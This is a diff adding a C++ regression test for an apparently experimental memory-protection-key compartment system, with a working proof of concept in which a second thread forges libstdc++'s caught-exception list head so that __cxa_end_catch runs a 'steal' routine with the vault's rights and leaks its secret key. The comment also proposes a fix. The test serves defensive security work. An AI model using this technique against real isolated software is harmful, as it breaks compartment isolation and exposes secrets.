@@ -1,0 +1,131 @@
+// Issue 11, attacker model A with a second thread (key-0 loads and
+// stores, no system call of its own beyond the program's). Not a word of
+// the exception object (attacks-rev30-landing-pad.cpp,
+// attacks-rev33-unwind-stop-fn.cpp) but the per-thread list of caught
+// exceptions that points to it: libstdc++'s __cxa_eh_globals, a static
+// TLS variable of libstdc++'s (key-0 memory), which __cxa_begin_catch and
+// __cxa_end_catch reach through __cxa_get_globals(_fast), with the rights
+// of the code that caught. While the vault is inside a catch, the word
+// caughtExceptions holds the address of the exception's header; the
+// program's second thread finds the header by its exception class
+// ("GNUCC++\0", as review 30b does), then the key-0 word that points to
+// the header (the list's head, in the vault's thread's TLS), and points
+// that word at a header of its own in key-0 memory: a foreign exception
+// class and steal (code of the program's whose address is taken in asm,
+// so no gate wraps it) as its exception_cleanup. The vault's catch waits
+// for the program's acknowledgement on a pipe (the window; any catch body
+// is one for a thread writing in a loop). At the end of the vault's catch
+// __cxa_end_catch takes the forged header and, for a foreign exception,
+// calls _Unwind_DeleteException, which calls its exception_cleanup with
+// the vault's rights: steal copies the vault's key into the program's
+// buffer, prints it and ends the process. The control stores nothing.
+// Moving the exception object itself out of the default domain's reach
+// (issue 11's fix for the two tests above) leaves this open: the list's
+// head decides which header __cxa_end_catch trusts.
+//
+// Seen in the guest: ATTACK SUCCEEDED (with the header still key-0).
+//
+// Suggested fix: the runtime defines __cxa_get_globals and
+// __cxa_get_globals_fast (libstdc++ calls both through its PLT, checked
+// with objdump of libstdc++.so.6.0.30) and, while a compartment's rights
+// are current, answers a __cxa_eh_globals of that thread and compartment
+// in memory only the compartment can write (reached without a key-0
+// pointer, e.g. at a fixed place of the thread's stack in the
+// compartment's arena); the default domain keeps libstdc++'s. A catch
+// stays in one domain, so each domain's list holds only what it caught
+// (std::uncaught_exceptions() then counts per domain).
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread %s -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t | FileCheck %s
+// CONTROL: list head found
+// CONTROL-NEXT: caught in the vault: 4
+// CHECK: list head found
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: caught in the vault: 4
+#include <bulkhead.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+#include "Inputs/key0-words.h"
+#include "Inputs/exception-header.h"
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+BULKHEAD_DATA(vault) int vault_ack_fd;
+
+struct E {
+  int v;
+};
+
+/* The catch waits for the caller's acknowledgement. */
+extern "C" BULKHEAD_ENTRY(vault) int vault_catch(int fd, int v) {
+  vault_ack_fd = fd;
+  try {
+    if (v)
+      throw E{v};
+  } catch (E &e) {
+    char c;
+    if (read(vault_ack_fd, &c, 1) != 1)
+      vault_key[0] = 0;
+    return e.v + 1;
+  }
+  return 0;
+}
+
+#include "Inputs/steal-vault-key.h"
+
+static int ack[2];
+static int forge;
+/* A header of the program's: libstdc++'s __cxa_exception (GCC 12,
+ * unwind-cxx.h) is 14 words, the unwind header from word 10 on:
+ * exception_class, exception_cleanup, private_1, private_2. */
+static uintptr_t fake[14] __attribute__((aligned(16)));
+
+/* The key-0 word, outside the header, that holds the header's address. */
+static uintptr_t *find_list_head(uintptr_t header) {
+  struct key0_region r[512];
+  int k = key0_regions(r, 512);
+  for (int i = 0; i < k; i++)
+    for (uintptr_t *w = r[i].lo; w < r[i].hi; w++)
+      if (*w == header && ((uintptr_t)w < header - 16 ||
+                           (uintptr_t)w >= header + 14 * 8))
+        return w;
+  return NULL;
+}
+
+static void *attacker(void *) {
+  uintptr_t *pad, *head = NULL;
+  while (!(pad = find_landing_pad()))
+    usleep(1000);
+  /* catchTemp is the header's word 8. */
+  while (!(head = find_list_head((uintptr_t)(pad - 8))))
+    usleep(1000);
+  puts("list head found");
+  fflush(stdout);
+  if (forge) {
+    uintptr_t p;
+    __asm__("leaq steal(%%rip), %0" : "=r"(p));
+    fake[10] = 0; /* a foreign exception class */
+    fake[11] = p; /* exception_cleanup */
+    *head = (uintptr_t)fake;
+  }
+  write(ack[1], "k", 1);
+  return NULL;
+}
+
+int main(int argc, char **argv) {
+  (void)argv;
+  forge = argc < 2;
+  if (pipe(ack))
+    return 1;
+  pthread_t t;
+  pthread_create(&t, NULL, attacker, NULL);
+  int r = vault_catch(ack[0], 3);
+  pthread_join(t, NULL);
+  printf("caught in the vault: %d\n", r);
+  puts("nothing stolen");
+  return 0;
+}
